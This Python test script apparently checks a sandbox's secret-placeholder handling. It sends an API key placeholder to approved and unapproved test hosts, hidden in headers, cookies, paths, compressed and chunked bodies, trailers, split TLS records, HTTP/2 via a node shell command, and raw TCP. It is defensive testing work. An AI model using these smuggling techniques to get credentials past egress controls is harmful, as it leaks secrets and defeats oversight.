"""Sends a secret's placeholder to where the secret must not go, in all places and dresses, and to where it may."""

import base64
import gzip
import json
import os
import urllib.parse
import zlib

from attack import Answers, as_bytes, attempt, get, https, plain, raw, report, shell, tcp, tls

API, OTHER = "api.test.example", "other.test.example"
KEY = os.environ["API_KEY"]
BODY_KEY = os.environ["BODY_KEY"]


def chunked(*pieces):
    return b"".join(f"{len(as_bytes(piece)):x}\r\n".encode() + as_bytes(piece) + b"\r\n" for piece in pieces)


def at(host, name, target=None, method="POST", headers=(), body=b"", send=None):
    """Registers an attempt for a host: under `other_…` and `api_…` the same is sent to both."""

    def run():
        text = send(host) if send else get(host, target or f"/{name}", method, [("X-Attempt", name), *headers], body)
        return https(host, text, method=method)

    run.__name__ = f"{host.split('.')[0]}_{name}"
    attempt(run)


HALF = len(KEY) // 2
for host in (OTHER, API):
    at(host, "bearer", headers=[("Authorization", f"Bearer {KEY}")])
    at(host, "basic", headers=[("Authorization", "Basic " + base64.b64encode(f"user:{KEY}".encode()).decode())])
    at(host, "cookie", headers=[("Cookie", f"a=b; session={KEY}; c=d")])
    at(host, "query", f"/query?key={KEY}&x=1")
    at(host, "any_header", headers=[("X-Custom", f"prefix-{KEY}-suffix")])
    at(host, "two_in_a_header", headers=[("X-Custom", f"{KEY}{KEY}")])
    at(host, "path", f"/path/{KEY}/more")
    at(host, "path_encoded", "/path/" + "".join(f"%{ord(char):02x}" for char in KEY))
    at(host, "query_name", f"/query_name?{KEY}=1&{KEY}")
    at(host, "query_encoded", "/query?key=" + "".join(f"%{ord(char):02x}" for char in KEY))
    at(host, "header_name", headers=[(f"X-{KEY}", "1")])
    at(host, "method", method=f"{KEY}")
    at(host, "host_header", send=lambda host: get(f"{KEY}.{host}", "/host_header"))
    at(host, "body", body=KEY)
    at(
        host,
        "body_json",
        headers=[("Content-Type", "application/json")],
        body=json.dumps({"key": KEY, "escaped": "".join(f"\\u{ord(char):04x}" for char in KEY)}),
    )
    at(
        host,
        "body_form",
        headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body=urllib.parse.urlencode({"key": KEY}),
    )
    at(host, "body_base64", body=base64.b64encode(KEY.encode()))
    at(host, "body_gzip", headers=[("Content-Encoding", "gzip")], body=gzip.compress(KEY.encode()))
    at(host, "body_deflate", headers=[("Content-Encoding", "deflate")], body=zlib.compress(KEY.encode()))
    at(
        host,
        "chunks",
        send=lambda host: (
            as_bytes(
                f"POST /chunks HTTP/1.1\r\nHost: {host}\r\nX-Attempt: chunks\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            + chunked(*KEY)
            + b"0\r\n\r\n"
        ),
    )
    at(
        host,
        "trailers",
        send=lambda host: (
            as_bytes(
                f"POST /trailers HTTP/1.1\r\nHost: {host}\r\nX-Attempt: trailers\r\nTrailer: X-Key\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            + chunked("x")
            + f"0\r\nX-Key: {KEY}\r\n\r\n".encode()
        ),
    )
    at(host, "body_in", body=f"key={BODY_KEY}")
    at(host, "body_in_gzip", headers=[("Content-Encoding", "gzip")], body=gzip.compress(f"key={BODY_KEY}".encode()))
    at(
        host,
        "body_in_chunks",
        send=lambda host: (
            as_bytes(
                f"POST /chunks HTTP/1.1\r\nHost: {host}\r\nX-Attempt: body_in_chunks\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            + chunked(*BODY_KEY)
            + b"0\r\n\r\n"
        ),
    )

    def in_records(host=host):
        with tls(host) as sock:
            for byte in get(
                host, "/in_records", headers=[("X-Attempt", "in_records"), ("Authorization", f"Bearer {KEY}")]
            ):
                sock.sendall(bytes([byte]))
            return Answers(sock).next()

    in_records.__name__ = f"{host.split('.')[0]}_in_records"
    attempt(in_records)

    def with_h2(host=host):
        script = (
            """
const http2 = require('node:http2'); const key = process.env.API_KEY; const done = (value) => { console.log(JSON.stringify(value)); process.exit(); };
const session = http2.connect('https://%s', { rejectUnauthorized: false }); session.on('error', (error) => done({ error: error.code }));
const stream = session.request({ ':method': 'POST', ':path': '/h2?key=' + key, authorization: 'Bearer ' + key, 'x-attempt': 'h2', cookie: 'a=' + key }, { waitForTrailers: true });
stream.on('wantTrailers', () => stream.sendTrailers({ 'x-trailer': key })); stream.on('error', (error) => done({ error: error.code }));
let status; stream.on('response', (headers) => { status = headers[':status']; }); stream.resume(); stream.on('end', () => done({ status }));
for (const char of key) stream.write(char); stream.end();"""
            % host
        )
        return json.loads(
            shell(f"API_KEY={KEY} timeout 60 node -e '{script.replace(chr(39), chr(34))}'", timeout=90)["out"]
            or '{"error":"none"}'
        )

    with_h2.__name__ = f"{host.split('.')[0]}_h2"
    attempt(with_h2)


@attempt
def odd_placeholders():
    """None of these is one: nothing of a value may come of it."""
    odd = [
        KEY.upper(),
        KEY.lower(),
        KEY[:-1],
        KEY + "0",
        "x" + KEY,
        KEY[:-1] + "g",
        KEY[::-1],
        KEY.replace("_", "%5F"),
        "DENO_SECRET_PLACEHOLDER_" + "0" * 64,
        "DENO_SECRET_PLACEHOLDER_" + os.urandom(32).hex(),
    ]
    return {
        "statuses": [
            https(API, get(API, "/odd", headers=[("X-Attempt", "odd"), ("X-Odd", text)]))["status"] for text in odd
        ]
    }


@attempt
def halves_on_two_requests():
    return {
        "statuses": [
            https(API, get(API, "/halves", headers=[("X-Attempt", "halves"), ("X-Half", half)]))["status"]
            for half in (KEY[:HALF], KEY[HALF:])
        ]
    }


@attempt
def to_approved_over_plain_http():
    return plain(API, get(API, "/plain", headers=[("X-Attempt", "plain"), ("Authorization", f"Bearer {KEY}")]))


@attempt
def raw_to_other():
    with tcp("raw.test.example", 7000) as sock:
        return raw(sock, f"hello {KEY}\n", 1)


@attempt
def environment():
    return {"keys": {name: value for name, value in os.environ.items() if name in ("API_KEY", "BODY_KEY")}}


report(threads=8)
